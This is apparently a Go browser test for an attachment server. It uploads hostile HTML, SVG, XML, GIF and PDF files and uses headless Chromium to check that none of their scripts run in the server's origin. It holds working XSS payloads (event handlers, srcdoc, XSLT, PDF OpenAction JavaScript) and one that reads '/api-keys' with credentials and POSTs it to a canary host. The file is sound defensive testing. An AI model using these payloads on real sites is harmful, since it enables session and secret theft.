package server_test

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"

	"attachd/server"
	"attachd/server/content"
)

var inBrowser = flag.Bool("browser", false, "run the tests that need a real browser, chromium: the page, and hostile files")

// mischief is what a malicious file would run: show itself, leave a trace, send a
// request.
const mischief = `document.cookie='pwned=1';localStorage.pwned=1;new Image().src='CANARY';fetch('CANARY');fetch('/api-keys',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('CANARY',{method:'POST',body:t}));alert(1)`

// hostileFiles are files in which a browser might run something.
var hostileFiles = []struct {
	name, content string
	harmless      bool // even without the server's headers: included only to see what they do
}{
	{name: "page.html", content: `<!doctype html><body onload="MISCHIEF"><script>MISCHIEF</script><img src=x onerror="MISCHIEF"><svg onload="MISCHIEF"></svg><iframe srcdoc="<script>MISCHIEF</script>"></iframe><meta http-equiv=refresh content="0;url=CANARY"><form action=CANARY id=f><input name=a></form><script>f.submit()</script>`},
	{name: "picture.svg", content: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="MISCHIEF"><script>MISCHIEF</script><image href="CANARY"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="CANARY"/></body></foreignObject></svg>`},
	{name: "data.xml", content: `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">MISCHIEF</script></x>`},
	{name: "styled.xml", content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:stylesheet id="s" version="1.0"><xsl:template match="/"><html><script>MISCHIEF</script></html></xsl:template></xsl:stylesheet></x>`, harmless: true},
	{name: "page.xhtml", content: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="MISCHIEF"><script>MISCHIEF</script></body></html>`},
	{name: "notes.txt", content: `<script>MISCHIEF</script>`, harmless: true},
	{name: "table.csv", content: `<html><script>MISCHIEF</script>,1` + "\n", harmless: true},
	{name: "picture.gif", content: "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;<script>MISCHIEF</script>", harmless: true},
	{name: "paper.pdf", content: "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('CANARY'\\);this.submitForm\\('CANARY'\\);)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n<script>MISCHIEF</script>", harmless: true},
}

// mischiefTime is how long mischief takes at most. A file without the server's headers,
// in which it succeeds, is given as much time as the others, in which it must not.
const mischiefTime = 500 * time.Millisecond

// No file runs in the origin of attachd, whatever it is and however it is opened, even
// when a proxy removes Content-Disposition.
// ASVS 1.2.1, 1.3.4; CVE-2026-27616, CVE-2019-20102, GO-2026-5511
func TestABrowserRunsNothing(t *testing.T) {
	if !*inBrowser {
		t.Skip("a real browser opens hostile files with: go test ./server -run Browser -browser")
	}
	var called atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called.Add(1) }))
	defer canary.Close()
	policy, err := content.NewPolicy([]string{"*"}, true)
	if err != nil {
		t.Fatal(err)
	}
	w := newWorld(t, func(c *server.Config) { c.Policy, c.Log = policy, slog.New(slog.DiscardHandler) })
	signedIn := w.do(t, step{do: "POST /session", json: `{"key": "` + w.keys["viewer"] + `"}`, want: 200})
	session, _, _ := strings.Cut(strings.TrimPrefix(signedIn.header.Get("Set-Cookie"), "attachd_session="), ";")

	for _, way := range []string{"in a window", "without Content-Disposition", "without any of our headers"} {
		at := strip(t, w.url, map[string][]string{
			"in a window":                 nil,
			"without Content-Disposition": {"Content-Disposition"},
			"without any of our headers":  {"Content-Disposition", "Content-Security-Policy", "X-Content-Type-Options"},
		}[way])
		for _, f := range hostileFiles {
			done := strings.NewReplacer("MISCHIEF", mischief, "CANARY", canary.URL).Replace(f.content)
			done = strings.ReplaceAll(done, "CANARY", canary.URL)
			w.play(t, []step{
				{as: "editor", do: "POST {product}/attachments", form: parts{file(f.name, done)}, want: 201, save: "A"},
				{as: "viewer", do: "POST /catalog/attachments/{A}/links", want: 201, save: "link"},
				{as: "viewer", do: "POST /catalog/attachments/{A}/links", json: `{"disposition": "inline"}`, want: 201, save: "inline"},
			})
			paths := []string{"{A.at}", "{link}", "{inline}"}
			if way == "without any of our headers" {
				paths = paths[:1] // they are all alike then
			}
			for _, path := range paths {
				t.Run(fmt.Sprint(f.name, " ", path, " ", way), func(t *testing.T) {
					browser := startBrowser(t) // one for each: what ran in another must not count
					called.Store(0)
					dialogs, cookies := browser.open(t, at+w.fill(t, path), session)
					ran := dialogs > 0 || called.Load() > 0 || strings.Contains(cookies, "pwned")
					switch {
					case !strings.Contains(cookies, "attachd_session="+session):
						t.Errorf("the session is lost: %s", cookies)
					case way != "without any of our headers" && ran:
						t.Errorf("%d dialogs, %d calls, cookies %s", dialogs, called.Load(), cookies)
					case way == "without any of our headers" && !ran && !f.harmless:
						t.Error("it runs nothing even so: this test would see nothing")
					}
				})
			}
		}
	}
}

// strip is a proxy to the server that removes headers.
func strip(t *testing.T, address string, headers []string) string {
	to, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(to)
	proxy.ModifyResponse = func(r *http.Response) error {
		for _, name := range headers {
			r.Header.Del(name)
		}
		return nil
	}
	s := httptest.NewServer(proxy)
	t.Cleanup(s.Close)
	return s.URL
}

type browser struct{ context.Context }

func startBrowser(t *testing.T) browser {
	t.Helper()
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath("chromium"), chromedp.NoSandbox,
		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-gpu", true), chromedp.Flag("disable-component-update", true))
	ctx, stop := chromedp.NewExecAllocator(context.Background(), options...)
	t.Cleanup(stop)
	ctx, closeTab := chromedp.NewContext(ctx)
	t.Cleanup(closeTab)
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	return browser{ctx}
}

// open opens an address in a new tab, signed in, and returns how many dialogs came up,
// and the cookies afterwards.
func (b browser) open(t *testing.T, address, session string) (dialogs int64, cookies string) {
	t.Helper()
	ctx, closeTab := chromedp.NewContext(b)
	defer closeTab()
	var shown atomic.Int64
	opening := chromedp.Events(ctx, page.JavascriptDialogOpening)
	var answering sync.WaitGroup
	defer answering.Wait()
	defer closeTab()
	answering.Go(func() {
		for _, err := range opening {
			if err != nil {
				return
			}
			shown.Add(1)
			// The page waits for it; one that is gone by then does not.
			_, _ = chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
		}
	})
	if _, err := chromedp.Call(ctx, storage.ClearCookies, storage.ClearCookiesParams{}); err != nil {
		t.Fatal(err)
	}
	cookie := &network.CookieParam{Name: "attachd_session", Value: session, URL: address, HTTPOnly: true, SameSite: network.CookieSameSiteStrict}
	if _, err := chromedp.Call(ctx, storage.SetCookies, storage.SetCookiesParams{Cookies: []*network.CookieParam{cookie}}); err != nil {
		t.Fatal(err)
	}
	opened, err := chromedp.Call(ctx, page.Navigate, page.NavigateParams{URL: address})
	if err != nil || opened.ErrorText != "" && !opened.IsDownload {
		t.Fatalf("opening: %v %s", err, opened.ErrorText)
	}
	time.Sleep(mischiefTime)
	jar, err := chromedp.Call(ctx, storage.GetCookies, storage.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range jar.Cookies {
		cookies += c.Name + "=" + c.Value + " "
	}
	return shown.Load(), cookies
}
